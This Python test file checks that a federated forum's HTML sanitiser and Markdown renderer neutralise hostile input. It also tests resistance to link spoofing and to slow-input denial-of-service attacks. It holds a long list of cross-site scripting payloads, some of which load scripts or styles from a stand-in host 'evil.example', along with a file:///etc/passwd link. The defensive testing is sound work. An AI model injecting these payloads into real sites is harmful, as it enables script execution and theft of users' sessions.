"""Strangers' HTML, members' Markdown, names: nothing acts, loads, moves or pretends. The cases are chapter G of SECURITY.md."""

from __future__ import annotations

import re
import time
import unicodedata
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fedcop.communities.naming import suggest
from fedcop.core.errors import Invalid
from fedcop.core.markup import LONGEST, mentions_in, tags_in, to_html
from fedcop.core.sanitise import ATTRIBUTES, CLASSES, SCHEMES, TAGS, clean_html, excerpt, host_of, plain, to_text
from fedcop.core.spelling import MARKS, apart, composed
from fedcop.discussions.text import clean_tag
from fedcop.filters.sieve import folded
from fedcop.media.kinds import safe_name
from fedcop.search.words import fold, terms
from web.shared.forms import tidy

ALLOWED = (TAGS - {"h1", "h2"}) | {"h3", "h4", "h5", "h6"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example'><input name=csrf><button formaction='javascript:alert(1)'>ok</button></form>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'><base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src='x.swf'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\tjava\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='https://a.example' onclick='alert(1)' onmouseover=alert(1) style='position:fixed;inset:0'>x</a>",
    "<a href='https://a.example' id='login-form' name='csrf' class='button button-primary'>x</a>",
    "<a href='https://a.example' target='_top' ping='https://evil.example' download>x</a>",
    "<p id=content class='site-header admin' style='background:url(https://evil.example)'>x</p>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<p dir='x\" onmouseover=\"alert(1)'>x</p>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)><audio src=x onerror=alert(1)><source onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><a title='</title><script>alert(1)</script>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><tr><td background='https://evil.example/x'>x</td></tr></table>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><p>x</p>",
    "<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
    "<custom-element onclick=alert(1)>x</custom-element><slot name=x></slot>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "<b onclick=alert(1)//<b>",
    "<p><p><p><p><a><a><a>" * 50,
    "<" * 500,
    '<p title="' + "a" * 5000,
]


class Strict(HTMLParser):
    """Reads what came out and complains about anything that is not on the list."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name == "class":
            if not set(value.split()) <= CLASSES.get(tag, set()):
                self.wrong.append(f"{tag} class={value}")
        elif name == "href":
            self.links.append(value)
            if re.sub(r"[\x00-\x20\u00a0]", "", value).partition(":")[0].lower() not in SCHEMES:
                self.wrong.append(f"href={value}")
        elif name != "rel" and name not in ATTRIBUTES.get(tag, set()):
            self.wrong.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")


def harmless(html: str) -> Strict:
    reader = Strict()
    reader.feed(html)
    reader.close()
    assert not reader.wrong, (reader.wrong, html)
    return reader


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives(attack: str) -> None:  # G02, G03, G13
    for text in (attack, f"<p>before {attack} after</p>", f"<blockquote>{attack}"):
        harmless(clean_html(text))
        assert clean_html(clean_html(text)) == clean_html(text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_members_cannot_do_in_markdown_what_strangers_cannot_do_in_html(attack: str) -> None:  # G08
    harmless(to_html(attack))
    harmless(to_html(f"[x]({attack})"))
    harmless(to_html(f"![{attack}](https://a.example/x.png)"))
    harmless(
        to_html(f"- **{attack}**\n\n> {attack}\n\n```\n{attack}\n```", mention=lambda h: attack, tag=lambda t: attack)
    )


@given(st.text(alphabet=st.sampled_from(list("<>\"'=/ -!ab&;#:()[]`*\n\t@.\x00\u202e"))))
@settings(max_examples=300, deadline=None)
def test_no_noise_survives_either(noise: str) -> None:
    harmless(clean_html(noise))
    harmless(to_html(noise, mention=lambda handle: f"https://a.example/{handle}"))


def test_structure_stays() -> None:
    html = (
        '<p>Un <strong>mot</strong>, <em>deux</em><br>ligne</p><ul><li>a</li></ul><ol start="3"><li>b</li></ol>'
        "<blockquote><p>c</p></blockquote><pre><code>d &lt; e</code></pre><table><tbody><tr><td>f</td></tr></tbody></table>"
        '<p lang="en">g</p>'
    )
    assert clean_html(html) == html


def test_headings_begin_below_those_of_the_page() -> None:
    assert clean_html("<h1>a</h1><h2>b</h2><h5>c</h5>") == "<h3>a</h3><h4>b</h4><h6>c</h6>"
    assert to_html("# a") == "<h3>a</h3>"


def test_links_say_nothing_of_us_and_vouch_for_nobody() -> None:  # G12
    assert 'rel="nofollow noopener noreferrer ugc"' in clean_html('<a href="https://a.example" rel="me author">x</a>')


@pytest.mark.parametrize(
    ("html", "named"),
    [
        ('<a href="https://evil.example/x">https://bank.example/login</a>', "evil.example"),
        ('<a href="https://evil.example/x">bank.example</a>', "evil.example"),
        ('<a href="https://evil.example/x"><span>https://</span>bank.example</a>', "evil.example"),
        ('<a href="https://evil.example:8443/x">www.bank.example/path?x</a>', "evil.example:8443"),
        ('<a href="https://bank.example@evil.example/">https://bank.example</a>', "evil.example"),
        ('<a href="https://evil.example/x">https://bank.example\u202e</a>', "evil.example"),
        ('<a class="mention" href="https://evil.example/phish">@mia@v.example</a>', "evil.example"),
        ('<a href="https://evil.example/c">!potagers@v.example</a>', "evil.example"),
    ],
)
def test_a_link_whose_text_names_another_host_shows_its_own(html: str, named: str) -> None:  # G07, G11
    assert f"[{named}]" in clean_html(html)


@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://www.bank.example/login?a=1&amp;b=2">bank.example/login</a>',
        '<a href="https://bank.example/"><span class="invisible">https://</span><span>bank.example</span></a>',
        '<a href="https://a.example/x">read this</a>',
        '<a class="mention" href="https://v.example/u/mia">@mia@v.example</a>',
        '<a class="mention" href="https://v.example/u/mia">@<span>mia</span></a>',
        '<a href="mailto:a@b.example">a@b.example</a>',
    ],
)
def test_honest_links_are_left_alone(html: str) -> None:
    assert "[" not in clean_html(html)


def test_only_mentions_that_the_document_vouches_for_stay_mentions() -> None:  # G11
    text = '<a class="u-url mention" href="https://v.example/u/mia">@mia</a> <a class="mention" href="https://e.example/x">@mia</a>'
    cleaned = clean_html(text, mentions={"https://v.example/u/mia"})
    assert cleaned.count("mention") == 1
    assert cleaned.endswith("@mia</a> [e.example]")
    tag = '<a class="mention hashtag" href="https://v.example/tags/x">#x</a>'
    assert "hashtag" in clean_html(tag, mentions=set())


def test_markdown_says_html_as_text_and_links_bare_addresses() -> None:
    assert to_html("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>"
    assert 'href="https://a.example/b_c_d"' in to_html("see https://a.example/b_c_d.")
    assert to_html("a\nb") == "<p>a<br>\nb</p>"
    assert to_html("~~a~~ **b** *c*") == "<p><del>a</del> <strong>b</strong> <em>c</em></p>"
    assert "<table>" in to_html("| a | b |\n|---|---|\n| 1 | 2 |")


def test_pictures_become_links() -> None:
    html = to_html("![a plum](https://a.example/plum.png)")
    assert "<img" not in html and ">a plum</a>" in html


def test_mentions_and_tags_are_linked_as_microblogs_do() -> None:
    people = {
        "ana": "https://here.example/u/ana",
        "bob@b.example": "https://b.example/bob",
        "!pots@b.example": "https://b.example/c/pots",
    }
    html = to_html(
        "@ana @bob@b.example @nobody !pots@b.example #prunier",
        mention=people.get,
        tag=lambda t: f"https://here.example/t/{t}",
    )
    assert '<span class="h-card"><a href="https://here.example/u/ana" class="u-url mention"' in html
    assert "@<span>bob</span>" in html and "!<span>pots</span>" in html and "@nobody" in html
    assert 'class="mention hashtag"' in html and "#<span>prunier</span>" in html


def test_mentions_are_found_where_people_mean_them() -> None:
    text = "@ana, (@bob@b.example:8443) `@code` [@link](https://x.example) a@mail.example @ana. https://x.example/@path !pots\n\n    @block"
    assert mentions_in(text) == ["ana", "bob@b.example:8443", "!pots"]
    assert tags_in("#été #1 #a_b, x#no https://x.example/#no &#39; (#yes)") == ["été", "a_b", "yes"]


def test_nothing_of_our_length_takes_long() -> None:  # F08, F09
    pieces = [
        "<http://",
        "[",
        "*a ",
        "`",
        "![[",
        "> ",
        "@",
        "@a.",
        "#a",
        "[a](",
        "|a",
        "- ",
        "~~a",
        "**a *b ",
        "&#",
        "<b ",
        "!a@b",
    ]
    texts = [(piece * (20_000 // len(piece) + 1))[:20_000] for piece in pieces]
    for text in (*texts, "a" + " " * 50_000 + "b"):
        started = time.process_time()
        to_html(text)
        clean_html(text)
        to_text(text)
        assert time.process_time() - started < 2, text[:20]
    with pytest.raises(Invalid):
        to_html("x" * (LONGEST + 1))


MANY = 150_000
HEAPS = {
    "above and below": "a" + "\u0300" * MANY + "\u0316" * MANY,
    "in turn": "a" + "\u0300\u0316" * MANY,
    "marks of marks": "a" + "\u0344\u0f73\uff9e" * (MANY // 2),
    "on letters": ("a" + "\u0300" * 31 + "\u0316") * (MANY // 16),
    "apart": ("\u0300" * 20 + "\u200b" + "\u0316" * 20 + "\u200b") * (MANY // 20),
}


@pytest.mark.parametrize("name", HEAPS)
def test_no_heap_of_accents_takes_long(name: str) -> None:  # F22
    """Composed by Python alone, what one form may hold takes a minute: whoever could send a form could stop the server."""
    ways: list[Callable[[str], object]] = [
        tidy, plain, fold, terms, folded, clean_tag, suggest, to_html_of_30_000, clean_html, excerpt
    ]  # fmt: skip
    for way in [*ways, lambda text: safe_name(text, "text/plain")]:
        started = time.process_time()
        way(HEAPS[name])
        assert time.process_time() - started < 2, way


def to_html_of_30_000(text: str) -> object:
    return to_html(text[:30_000])


def test_what_any_writing_has_stays_as_it_is() -> None:
    assert composed("e\u0301") == "é" and apart("é") == "e\u0301" and apart("ﬁ") == "fi"
    for words in ("שָׁלוֹם", "ภาษาไทย" * 20, "हिन्दी में " * 20, "Việt Nam" * 20, "a" + "\u0323\u0302" * 15, "\ud800"):
        assert composed(words) == unicodedata.normalize("NFC", words) and apart(words) == unicodedata.normalize(
            "NFKD", words
        )
    assert composed("x" + "\u0301" * 100) == "x" + "\u0301" * MARKS  # of more, the first ones


def test_nothing_is_composed_but_here() -> None:
    root = Path(__file__).parents[3]
    found = [
        str(path.relative_to(root))
        for folder in ("fedcop", "web", "activitypub")
        for path in (root / folder).rglob("*.py")
        if "unicodedata.normalize" in path.read_text("utf-8")
    ]
    assert found == ["fedcop/core/spelling.py"]


TOO_DEEP = [
    "<blockquote>",
    "<ul><li>",
    "<blockquote></x>",
    '<blockquote title="</blockquote>">',
    "<div>",
    "<",
    "<p a",
    "<table><tr><td>",
]


@pytest.mark.parametrize("piece", TOO_DEEP)
def test_of_what_lies_too_deep_the_words_are_left(piece: str) -> None:  # F08
    for times in (60, 300_000 // len(piece)):
        started = time.process_time()
        text = "<p>Bonjour</p>" + piece * times
        assert "Bonjour" in clean_html(text) and "Bonjour" in to_text(text)
        assert clean_html(text).count("<blockquote>") <= 50
        assert time.process_time() - started < 3
    orderly = "<p>Un <em>mot</em></p>" * 4000
    assert clean_html(orderly) == orderly


def test_text_of_html() -> None:
    html = "<p>a<br>b</p>\n<ul><li>x</li><li>y</li></ul><p>c &amp; d &lt;e&gt;</p><script>no</script>"
    assert to_text(html) == "a\nb\n\n- x\n- y\n\nc & d <e>"
    assert to_text("<p>un \n\n deux</p>\n<p> trois</p>\n") == "un deux\n\ntrois"
    assert excerpt(html) == "a b: x; y. c & d <e>"
    assert excerpt("<p>Ce qui a changé.</p><ul><li>la clé dort</li><li>chez elle</li></ul>") == (
        "Ce qui a changé. La clé dort; chez elle"
    )
    assert excerpt("<p>" + "mot " * 100 + "</p>", 20) == "mot mot mot mot mot…"
    assert len(excerpt("x" * 1000, 30)) == 30


def test_names_are_plain() -> None:  # F14, G01
    assert plain("  Mia\u202e\x07 \n Roy\u200b ") == "Mia Roy"
    assert plain("a\r\nb\x00\tc", lines=True) == "a\nb\tc"
    assert plain("e\u0301té") == "été"
    assert plain("Z" + "\u0300" * 400 + "oé") == "Z" + "\u0300" * 4 + "oé"
    assert plain("👩\u200d🌾 ok") == "👩\u200d🌾 ok"
    assert plain("<img src=x onerror=alert(1)>") == "<img src=x onerror=alert(1)>"  # text stays text: templates escape


def test_hosts_as_people_see_them() -> None:
    assert host_of("https://A.example:443/x") == "a.example"
    assert host_of("http://a.example:8080") == "a.example:8080"
    assert host_of("javascript:alert(1)") == host_of("https://[bad") == ""


def test_what_is_hidden_behind_a_word_stays_there() -> None:
    said = '<p>Qui ?</p><details open class="x"><summary>La fin</summary><div><p>Le jardinier.</p></div></details><p>Ah</p>'
    kept = clean_html(said)
    assert kept == "<p>Qui ?</p><details><summary>La fin</summary><p>Le jardinier.</p></details><p>Ah</p>"
    assert excerpt(kept) == "Qui ? La fin… Ah"
    assert to_text(kept) == "Qui ?\n\nLa fin\n\nLe jardinier.\n\nAh"
    assert excerpt("<details>Sans titre</details>") == "…"
    twice = "<details><summary>La fin</summary>Il<details><summary>Ou</summary>elle</details>seul</details>."
    assert excerpt(clean_html(twice)) == "La fin… ."
